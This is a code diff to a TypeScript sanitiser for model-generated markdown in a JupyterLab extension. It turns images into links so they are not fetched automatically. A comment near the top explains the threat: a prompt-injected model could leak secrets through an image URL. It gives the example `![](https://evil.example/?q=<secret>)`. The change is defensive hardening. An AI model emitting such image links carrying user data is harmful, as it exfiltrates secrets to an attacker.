@@ -2,18 +2,27 @@
 // Our DOM shares the page with JupyterLab: no scripts, no event handlers, no data-* attributes
 // (JupyterLab's commandlinker acts on them), no styles/ids/classes, and only http(s)/mailto links,
 // which open in a new tab without an opener.
+// Nothing in model text is fetched by itself: an image becomes a link to it. A model that read a
+// prompt injection could otherwise leak what it saw through an image URL
+// (`![](https://evil.example/?q=<secret>)`), fetched the moment the text is shown.
 import DOMPurify, { type Config } from "dompurify";
 import { Marked } from "marked";
 
 const marked = new Marked({ gfm: true, breaks: false, async: false });
 
-const SAFE_URL = /^(?:https?:|mailto:)/i;
+/** The one URL policy of model text: where a link may point. */
+const LINK_URL = /^(?:https?:|mailto:)/i;
+/** Of those, what an image's link may point at (a web address). */
+const IMAGE_URL = /^https?:/i;
+
+/** Whether `url` may be the target of a link shown in model text. */
+export const isSafeLink = (url: string): boolean => LINK_URL.test(url.trim());
 
 const CONFIG: Config = {
   USE_PROFILES: { html: true }, // no SVG or MathML
   ALLOW_DATA_ATTR: false,
   ALLOW_UNKNOWN_PROTOCOLS: false,
-  ALLOWED_URI_REGEXP: /^(?:https?:|mailto:)/i,
+  ALLOWED_URI_REGEXP: LINK_URL,
   FORBID_TAGS: [
     "style",
     "script",
@@ -44,24 +53,27 @@ let purifier: Purifier | null = null;
 function getPurifier(): Purifier {
   if (purifier) return purifier;
   const p = DOMPurify(window);
-  p.addHook("uponSanitizeAttribute", (_node, data) => {
-    // Belt and braces: whatever the config, never keep data-* or on* attributes.
+  p.addHook("uponSanitizeAttribute", (node, data) => {
+    // Belt and braces: whatever the config, never keep data-* or on* attributes, nor any other
+    // than our allowlist's (an image's address is kept for imageAsLink below).
     const name = data.attrName.toLowerCase();
-    if (name.startsWith("data-") || name.startsWith("on")) data.keepAttr = false;
+    const imageSrc = name === "src" && node.nodeName === "IMG";
+    if (name.startsWith("data-") || name.startsWith("on") || (!ALLOWED_ATTRS.has(name) && !imageSrc)) {
+      data.keepAttr = false;
+    }
   });
   p.addHook("afterSanitizeAttributes", (node) => {
     if (node.tagName === "A") {
       const href = node.getAttribute("href");
-      if (href !== null && !SAFE_URL.test(href.trim())) node.removeAttribute("href");
+      if (href !== null && !isSafeLink(href)) node.removeAttribute("href");
       if (node.hasAttribute("href")) {
         node.setAttribute("target", "_blank");
         node.setAttribute("rel", "noopener noreferrer");
       }
     }
-    if (node.tagName === "IMG") {
-      const src = node.getAttribute("src");
-      if (src !== null && !/^https?:/i.test(src.trim())) node.removeAttribute("src");
-    }
+    // Here, while the markup is still in the sanitiser's inert document: an image that reached
+    // this page's document would be fetched at once.
+    if (node.tagName === "IMG") imageAsLink(node);
   });
   // Parsed once: passing the configuration to every sanitize() call parses it again each time
   // (a tenth of a millisecond, which adds up over a long transcript's many entries).
@@ -70,11 +82,38 @@ function getPurifier(): Purifier {
   return p;
 }
 
+/**
+ * Replace an image by a link to it ("Image: <alt text>", opening in a new tab), or by its alt
+ * text when its address is not a web address.
+ */
+function imageAsLink(img: Element): void {
+  const doc = img.ownerDocument;
+  const src = (img.getAttribute("src") ?? "").trim();
+  const alt = (img.getAttribute("alt") ?? "").trim();
+  img.removeAttribute("src");
+  if (!IMAGE_URL.test(src)) {
+    img.replaceWith(doc.createTextNode(alt));
+    return;
+  }
+  const link = doc.createElement("a");
+  link.setAttribute("href", src);
+  link.setAttribute("target", "_blank");
+  link.setAttribute("rel", "noopener noreferrer");
+  link.setAttribute("title", `Image not loaded: ${src}`);
+  link.textContent = alt ? `Image: ${alt}` : "Image";
+  img.replaceWith(link);
+}
+
 /** Tags that must never survive, whatever the sanitiser did. */
 const FORBIDDEN = new Set([
   ...(CONFIG.FORBID_TAGS as string[]),
   "svg",
   "math",
+  "picture",
+  "source",
+  "video",
+  "audio",
+  "track",
   "noscript",
   "applet",
   "portal",
@@ -84,7 +123,6 @@ const FORBIDDEN = new Set([
 /** The only attributes kept on markdown output. */
 const ALLOWED_ATTRS = new Set([
   "href",
-  "src",
   "alt",
   "title",
   "target",
@@ -110,7 +148,12 @@ const ALLOWED_ATTRS = new Set([
  */
 function enforceInert(root: DocumentFragment): void {
   for (const el of [...root.querySelectorAll("*")]) {
-    if (FORBIDDEN.has(el.localName.toLowerCase())) {
+    const tag = el.localName.toLowerCase();
+    if (tag === "img") {
+      imageAsLink(el);
+      continue;
+    }
+    if (FORBIDDEN.has(tag)) {
       el.remove();
       continue;
     }
@@ -119,8 +162,7 @@ function enforceInert(root: DocumentFragment): void {
       const value = attr.value.trim();
       if (
         !ALLOWED_ATTRS.has(name) ||
-        (name === "href" && !SAFE_URL.test(value)) ||
-        (name === "src" && !/^https?:/i.test(value))
+        (name === "href" && !isSafeLink(value))
       ) {
         el.removeAttribute(attr.name);
       }
